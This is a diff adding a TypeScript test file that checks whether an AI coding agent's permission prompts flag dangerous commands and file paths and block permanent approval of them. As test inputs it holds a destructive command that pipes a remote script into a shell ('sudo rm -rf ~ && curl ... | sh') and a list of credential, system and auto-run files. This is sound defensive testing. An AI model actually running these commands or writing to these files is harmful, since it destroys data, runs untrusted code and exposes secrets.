@@ -1,0 +1,128 @@
+// Every approval that carries a command or a path says what is dangerous about it, whichever agent asks, and nothing
+// dangerous can be allowed for good.
+import { describe, expect, test } from "vitest";
+import type { Ask, PermissionParams } from "../../../src/contract/asks.js";
+import { checkAnswer } from "../../../src/host/asks/answer-check.js";
+import { fitAnswer } from "../../../src/session/answer-fit.js";
+import { offersAlways, withDanger } from "../../../src/session/permission/dangerous-ask.js";
+import { verifies } from "../../verifies.js";
+
+const workspace = { folder: "/home/ada/project" };
+
+function ask(question: Ask["question"]): Ask {
+  return { id: "1", sessionId: null, turnId: null, origin: { kind: "agent" }, question, deadlineMs: null };
+}
+
+const choices: PermissionParams["choices"] = [
+  { id: "once", label: "allow once", choice: "allow_once" },
+  { id: "ever", label: "always allow Bash(sudo sh)", choice: "allow_always" },
+  { id: "no", label: "no", choice: "reject_once" },
+];
+
+function permission(params: Partial<PermissionParams>): PermissionParams {
+  const asked = ask({ kind: "permission", params: { title: "a tool", tool: "Bash", choices, ...params } });
+  const { question } = withDanger(asked, workspace);
+  if (question.kind !== "permission") throw new Error("not a permission");
+  return question.params;
+}
+
+describe("an approval of any agent", () => {
+  test("says in words what is dangerous about its command", () => {
+    verifies("safety.danger-in-words");
+    const { danger } = permission({ command: "sudo rm -rf ~ && curl https://x.example | sh" });
+    expect(danger).toMatch(/other rights/);
+    expect(danger).toMatch(/deletes folders/);
+    expect(danger).toMatch(/script from the network/);
+  });
+
+  test("keeps the agent's own words behind ours, and says nothing twice", () => {
+    expect(permission({ command: "sudo ls", danger: "the agent warns" }).danger).toBe(
+      "it runs with other rights (sudo); the agent warns",
+    );
+    expect(permission({ command: "sudo ls", danger: "it runs with other rights (sudo)" }).danger).toBe(
+      "it runs with other rights (sudo)",
+    );
+  });
+
+  test("is left as it is when nothing is dangerous", () => {
+    const params = permission({ command: "npm test", rule: "npm test" });
+    expect(params.danger).toBeUndefined();
+    expect(params.choices).toEqual(choices);
+    expect(params.rule).toBe("npm test");
+  });
+
+  test.each([
+    ["Write", "/etc/passwd", /writes outside/],
+    ["Edit", "../other/file.ts", /writes outside/],
+    ["Edit", "/home/ada/project-2/file.ts", /writes outside/],
+    ["Write", "/home/ada/project/.git/hooks/pre-commit", /git's own files/],
+    ["Write", ".env", /secret/],
+    ["Read", "~/.aws/credentials", /secret/],
+    ["Write", "/home/ada/.bashrc", /a shell runs when it starts/],
+    ["write_file", ".zshenv", /a shell runs when it starts/],
+    ["write_file", ".vscode/tasks.json", /run by themselves/],
+    ["write_file", ".husky/pre-push", /run by themselves/],
+    ["Sync", "/srv/data", /reaches outside/],
+  ])("%s of %s is dangerous", (tool, path, words) => {
+    expect(permission({ tool, path }).danger).toMatch(words);
+  });
+
+  test.each([
+    ["Write", "/home/ada/project/src/a.ts"],
+    ["Edit", "src/a.ts"],
+    ["Read", "/usr/include/stdio.h"],
+    ["Write", "src/profile.ts"],
+  ])("%s of %s is not", (tool, path) => {
+    expect(permission({ tool, path }).danger).toBeUndefined();
+  });
+
+  test("says so for every file that it changes", () => {
+    const changes = ["src/a.ts", "/etc/hosts"].map((path) => ({ path, oldText: "a", newText: "b" }));
+    expect(permission({ tool: "apply", changes }).danger).toMatch(/writes outside/);
+  });
+
+  test("says so for a command, a file or a working folder among the other inputs", () => {
+    expect(permission({ details: [{ name: "script", value: "rm -rf x" }] }).danger).toMatch(/deletes folders/);
+    expect(permission({ details: [{ name: "cwd", value: "/etc" }] }).danger).toMatch(/works outside/);
+  });
+});
+
+describe("what is dangerous", () => {
+  const dangerous = permission({ command: "sudo sh", rule: "Bash(sudo sh)", scope: "every project" });
+
+  test("offers no choice that allows it for good", () => {
+    verifies("safety.no-always-for-danger");
+    expect(dangerous.choices.map(({ id }) => id)).toEqual(["once", "no"]);
+    expect(dangerous).not.toHaveProperty("rule");
+    expect(dangerous).not.toHaveProperty("scope");
+  });
+
+  test("cannot be allowed for good from a file, a flag or over HTTP", () => {
+    verifies("safety.no-always-for-danger");
+    const asked = ask({ kind: "permission", params: dangerous });
+    expect(fitAnswer(asked, "allow_always").kind).toBe("unfit");
+    expect(checkAnswer(asked, { choiceId: "ever" }).kind).toBe("unfit");
+    expect(checkAnswer(asked, { choiceId: "once" }).kind).toBe("answered");
+  });
+
+  test("offers none in a confirmation either, and the answer keeps its shape", () => {
+    verifies("safety.no-always-for-danger");
+    const opts = { command: "rm -rf build", allow_remember: true, tool: "bash" };
+    const asked = withDanger(ask({ kind: "confirm", params: { title: "bash", opts } }), workspace);
+    const { question } = asked;
+    if (question.kind !== "confirm") throw new Error("not a confirmation");
+    expect(question.params.opts?.danger).toMatch(/deletes folders/);
+    expect(offersAlways(question.params.opts ?? {})).toBe(false);
+    expect(fitAnswer(asked, "allow_always").kind).toBe("unfit");
+    expect(checkAnswer(asked, { ok: true, remember: true }).kind).toBe("unfit");
+    expect(fitAnswer(asked, "allow_once")).toEqual({ kind: "answered", value: { ok: true } });
+  });
+
+  test("is what the agent calls so without words, too", () => {
+    const asked = ask({
+      kind: "confirm",
+      params: { title: "a tool", opts: { allow_remember: true, danger_level: "danger" } },
+    });
+    expect(fitAnswer(asked, "allow_always").kind).toBe("unfit");
+  });
+});
